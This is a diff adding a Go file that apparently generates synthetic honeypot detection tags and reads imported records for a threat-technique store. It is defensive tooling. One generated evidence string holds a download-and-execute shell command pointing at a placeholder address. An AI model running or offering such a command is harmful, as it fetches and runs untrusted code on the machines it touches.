@@ -1,0 +1,129 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io/fs"
+	"math/rand/v2"
+	"os"
+	"time"
+
+	"github.com/google/uuid"
+
+	"github.com/decnet/ttpstore/ttp"
+)
+
+const (
+	attackers  = 2000 // few of them make most of the tags
+	identities = 100
+	campaigns  = 10
+	techniques = 60
+	days       = 30
+)
+
+func id(parts ...any) uuid.UUID { return uuid.NewSHA1(uuid.NameSpaceOID, fmt.Append(nil, parts...)) }
+
+func identityOf(attacker int) uuid.UUID { return id("identity ", attacker%identities) }
+
+// graph is who belongs to whom.
+type graph struct {
+	campaigns  []ttp.Campaign
+	identities []ttp.Identity
+	attackers  []ttp.Attacker
+}
+
+func newGraph() graph {
+	var g graph
+	for i := range campaigns {
+		g.campaigns = append(g.campaigns, ttp.Campaign{UUID: id("campaign ", i)})
+	}
+	for i := range identities {
+		g.identities = append(g.identities, ttp.Identity{UUID: id("identity ", i), CampaignUUID: id("campaign ", i%campaigns)})
+	}
+	for i := range attackers {
+		g.attackers = append(g.attackers, ttp.Attacker{UUID: id("attacker ", i), IdentityUUID: identityOf(i)})
+	}
+	return g
+}
+
+// scopes are the busiest of their kinds.
+func scopes() []scope {
+	return []scope{
+		{kind: "identity", id: id("identity ", 0)}, {kind: "attacker", id: id("attacker ", 0)},
+		{kind: "campaign", id: id("campaign ", 0)}, {kind: "session", text: "session-0000-00"}, {kind: "fleet"},
+	}
+}
+
+// tagSource makes tags such as a honeypot's, the same ones each time: few attackers make most of them, one
+// in three names the identity.
+func tagSource() func() ttp.Tag {
+	random := rand.New(rand.NewPCG(1, 2))
+	skewed := rand.NewZipf(random, 1.2, 8, attackers-1)
+	begin := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	event := 0
+	return func() ttp.Tag {
+		event++
+		attacker, technique := int(skewed.Uint64()), random.IntN(techniques)
+		t := ttp.Tag{
+			SourceKind: "command", SourceID: id("event ", event).String(), AttackerUUID: id("attacker ", attacker),
+			SessionID: fmt.Sprintf("session-%04d-%02d", attacker, random.IntN(10)), DeckyID: fmt.Sprintf("decky-%02d", random.IntN(20)),
+			Tactic: fmt.Sprintf("TA%04d", technique%14), TechniqueID: fmt.Sprintf("T1%03d", technique),
+			Confidence: 0.3 + 0.7*random.Float64(), RuleID: fmt.Sprintf("R%04d", technique), RuleVersion: 1,
+			AttackRelease: "enterprise-v18.1",
+			Evidence: fmt.Appendf(nil,
+				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
+				random.IntN(256), random.Uint32(), random.IntN(1<<15)),
+			ObservedAt: begin.Add(time.Duration(random.IntN(days*24*3600*1e6)) * time.Microsecond),
+		}
+		if technique%3 == 0 {
+			t.SubTechniqueID = fmt.Sprintf("%s.%03d", t.TechniqueID, 1+random.IntN(4))
+		}
+		if event%3 == 0 {
+			t.IdentityUUID = identityOf(attacker)
+		}
+		return t
+	}
+}
+
+func take(next func() ttp.Tag, n int) []ttp.Tag {
+	tags := make([]ttp.Tag, n)
+	for i := range tags {
+		tags[i] = next()
+	}
+	return tags
+}
+
+// honeypotTags reads records in the import format, newest first, or none when the file is absent. The store
+// makes their spelling canonical, for all subjects, and leaves out what lies below its confidence floor.
+func honeypotTags(ctx context.Context, path string, most int) (tags []ttp.Tag, err error) {
+	file, err := os.Open(path)
+	if errors.Is(err, fs.ErrNotExist) {
+		return nil, nil
+	}
+	if err != nil {
+		return nil, err
+	}
+	defer func() { _ = file.Close() }()
+	s, err := ttp.Open(ctx, "sqlite://:memory:")
+	if err != nil {
+		return nil, err
+	}
+	defer func() { err = errors.Join(err, s.Close()) }()
+	if err := s.Migrate(ctx); err != nil {
+		return nil, err
+	}
+	if _, err := s.Import(ctx, file, ttp.ImportOptions{}); err != nil {
+		return nil, err
+	}
+	for tag, err := range s.TagsSeq(ctx, ttp.Fleet(), ttp.Filter{}) {
+		if err != nil {
+			return nil, err
+		}
+		if len(tags) == most {
+			break
+		}
+		tags = append(tags, tag)
+	}
+	return tags, nil
+}
